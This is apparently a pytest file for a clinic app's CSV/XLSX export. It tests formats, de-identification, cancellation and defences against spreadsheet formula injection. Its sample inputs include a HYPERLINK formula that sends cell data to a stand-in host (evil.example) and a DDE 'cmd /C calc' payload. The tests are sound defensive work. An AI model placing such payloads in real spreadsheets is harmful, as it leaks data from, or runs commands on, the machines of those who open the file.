"""CSV and XLSX writers on plain records (no database): formats, read-back, formula injection, cancel."""

from __future__ import annotations

import datetime as dt
import tempfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from clinic_app.domain.case import Note
from clinic_app.export.columns import BY_NAME, COLUMNS, ColumnType, Profile, columns_for
from clinic_app.export.errors import ColumnError, ExportCancelled
from clinic_app.export.labels import CODED_COLUMNS, value_label
from clinic_app.export.tabular import (
    DIALECTS,
    Preset,
    header_text,
    neutralise,
    unneutralise,
    write_csv,
    write_xlsx,
    xlsx_profile,
)

from .helpers import DANGEROUS, demo_records, expected_csv_text, parse_csv_number, read_csv_raw, strip_prefix

NASTY = {
    "given_name": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "family_name": "+33 Dupont",
    "phone": "-2+3",
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "\tMontréal",
    "address_line": "\r12 rue ; \"guillemets\"\nligne 2",
    "preferred_name": "'=déjà protégé",
    "immigration_status": "''+deux",
}


def _nasty_records():
    ests, cases, records = demo_records(60)
    case = cases[0]
    for field, value in NASTY.items():
        setattr(case.person, field, value)
    case.notes = [Note(text="=1+1"), Note(text="ordinaire; avec « guillemets » et عربي")]
    return records


@pytest.mark.parametrize("preset", list(Preset))
def test_csv_reads_back_equal_to_the_records(tmp_path: Path, preset: Preset) -> None:
    records = _nasty_records()
    dialect = DIALECTS[preset]
    out = tmp_path / "cases.csv"
    cols = columns_for(Profile.FULL)
    assert write_csv(out, records, cols, preset) == len(records)
    header, rows = read_csv_raw(out, bom=dialect.bom, delimiter=dialect.delimiter)
    assert header == [header_text(c, "names", "fr") for c in COLUMNS]
    assert len(rows) == len(records)
    for rec, row in zip(records, rows, strict=True):
        for col, text in zip(cols, row, strict=True):
            value = col.get(rec)
            if col.type is ColumnType.TEXT:
                want = expected_csv_text(col.type, value, decimal=dialect.decimal, true=dialect.true,
                                         false=dialect.false, name=col.name, for_people=dialect.for_people)
                assert strip_prefix(text) == want, col.name
                if value and str(value)[0] in DANGEROUS:
                    assert text.startswith("'"), (col.name, text)
            elif col.type in (ColumnType.MONEY, ColumnType.NUMBER):
                assert (text == "") is (value is None), col.name
                if value is not None:
                    want = Decimal(value).quantize(Decimal("0.01")) if col.type is ColumnType.MONEY else Decimal(value)
                    assert parse_csv_number(text, dialect.decimal) == want, col.name  # money: two decimals
            else:
                assert text == expected_csv_text(col.type, value, decimal=dialect.decimal, true=dialect.true,
                                                 false=dialect.false, name=col.name,
                                                 for_people=dialect.for_people), col.name
    # the figures really are there, the same as the engine's
    owed = [r.figures.amount_owed for r in records]
    assert any(v is not None for v in owed) and any(v is None for v in owed)


def test_excel_fr_uses_bom_semicolon_and_decimal_comma(tmp_path: Path) -> None:
    _ests, cases, records = demo_records(30)
    cases[0].work.hourly_rate = Decimal("21.75")
    out = tmp_path / "fr.csv"
    write_csv(out, records[:1], columns_for("full", ["case_number", "hourly_rate", "layoff", "start_date"]),
              "excel-fr")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfcase_number;hourly_rate;layoff;start_date\r\n")
    assert f"TST-000001;21,75;{'oui' if cases[0].work.layoff else 'non'};".encode() in raw
    out2 = tmp_path / "plain.csv"
    write_csv(out2, records[:1], columns_for("full", ["case_number", "hourly_rate"]), "plain")
    assert out2.read_bytes() == b"case_number,hourly_rate\r\nTST-000001,21.75\r\n"


def test_formula_injection_is_neutralised_in_text_cells_only(tmp_path: Path) -> None:
    records = _nasty_records()
    out = tmp_path / "x.csv"
    write_csv(out, records[:1], columns_for("full"), "plain")
    header, rows = read_csv_raw(out, bom=False, delimiter=",")
    cells = dict(zip(header, rows[0], strict=True))
    assert cells["given_name"] == "'" + NASTY["given_name"]
    assert cells["family_name"] == "'+33 Dupont"
    assert cells["phone"] == "'-2+3"
    assert cells["email"].startswith("'@")
    assert cells["city"] == "'\tMontréal"
    assert cells["address_line"].startswith("'\r12 rue")
    assert cells["preferred_name"] == "''=déjà protégé"  # one more apostrophe: reading back is exact
    assert cells["immigration_status"] == "'''+deux"
    assert cells["notes"].startswith("'=1+1\n")
    # no cell of the whole file starts with a dangerous character unless it is a number we wrote
    numeric = {c.name for c in COLUMNS if c.type in (ColumnType.MONEY, ColumnType.NUMBER, ColumnType.INTEGER)}
    for row in rows:
        for name, text in zip(header, row, strict=True):
            if text and text[0] in DANGEROUS:
                assert name in numeric, (name, text)


@given(st.text(max_size=12))
def test_neutralise_is_exactly_reversible(text: str) -> None:
    safe = neutralise(text)
    assert unneutralise(safe) == text
    assert not safe or safe[0] not in DANGEROUS


def test_xlsx_typed_cells_frozen_header_filters_and_profile(tmp_path: Path) -> None:
    records = _nasty_records()
    out = tmp_path / "cases.xlsx"
    cols = columns_for(Profile.FULL)
    assert write_xlsx(out, records, cols, profile=Profile.FULL) == len(records)
    assert xlsx_profile(out) == "full"
    wb = load_workbook(out)
    ws = wb.active
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(cols)).column_letter}{len(records) + 1}"
    assert [c.value for c in ws[1]] == [header_text(c, "names", "fr") for c in cols]
    assert "profile=full" in (wb.properties.keywords or "")
    for rec, row in zip(records, ws.iter_rows(min_row=2), strict=True):
        for col, cell in zip(cols, row, strict=True):
            value = col.get(rec)
            if value is None or value == "":
                assert cell.value is None, col.name
                continue
            if col.type is ColumnType.TEXT:
                assert cell.data_type == "s", (col.name, cell.data_type)  # never a formula
                if col.name in CODED_COLUMNS:  # a workbook is for people: the code's label, in its language
                    value = value_label(str(value), "fr")
                assert cell.value == str(value).replace("\r\n", "\n").replace("\r", "\n"), col.name
                assert cell.quotePrefix is (str(value)[0] in DANGEROUS), col.name
            elif col.type is ColumnType.MONEY:
                assert cell.data_type == "n" and "$" in cell.number_format, col.name
                assert Decimal(str(cell.value)).quantize(Decimal("0.01")) == Decimal(value).quantize(
                    Decimal("0.01")), col.name
            elif col.type is ColumnType.NUMBER:
                assert cell.data_type == "n" and Decimal(str(cell.value)) == Decimal(value), col.name
            elif col.type is ColumnType.DATE:
                assert cell.is_date and cell.value.date() == value, col.name
            elif col.type is ColumnType.DATETIME:
                assert cell.is_date and cell.value == value.astimezone(dt.UTC).replace(tzinfo=None), col.name
            elif col.type is ColumnType.BOOL:
                assert cell.value is bool(value), col.name


def test_deidentified_profile_drops_personal_columns_and_refuses_to_add_them() -> None:
    names = [c.name for c in columns_for(Profile.DEIDENTIFIED)]
    for personal in ("given_name", "family_name", "preferred_name", "date_of_birth", "phone", "email",
                     "address_line", "city", "postal_code", "immigration_status", "notes", "job_title",
                     "created_by"):
        assert personal not in names
        assert BY_NAME[personal].personal
    assert {"site", "kind", "status", "badge", "amount_owed", "shortfall"} <= set(names)
    with pytest.raises(ColumnError) as err:
        columns_for(Profile.DEIDENTIFIED, ["site", "email"])
    assert err.value.code == "personal_column" and "email" in err.value.message("fr")
    with pytest.raises(ColumnError) as err:
        columns_for(Profile.FULL, ["site", "nom"])
    assert err.value.code == "unknown_column" and "nom" in err.value.message("en")
    assert [c.name for c in columns_for("full", ["site", "kind", "site"])] == ["site", "kind"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cancelled_export_leaves_the_previous_file_and_no_temporary(tmp_path: Path, fmt: str,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    scratch = tmp_path / "scratch"  # where openpyxl streams a write-only sheet: personal data until removed
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    _ests, _cases, records = demo_records(1200)
    out = tmp_path / f"cases.{fmt}"
    out.write_bytes(b"previous export")
    seen: list[int] = []

    def progress(done: int) -> bool:
        seen.append(done)
        return done < 1000

    with pytest.raises(ExportCancelled):
        if fmt == "csv":
            write_csv(out, records, columns_for("full"), "plain", progress=progress)
        else:
            write_xlsx(out, records, columns_for("full"), profile="full", progress=progress)
    assert seen == [500, 1000]
    assert out.read_bytes() == b"previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == [f"cases.{fmt}", "scratch"]
    assert list(scratch.iterdir()) == []
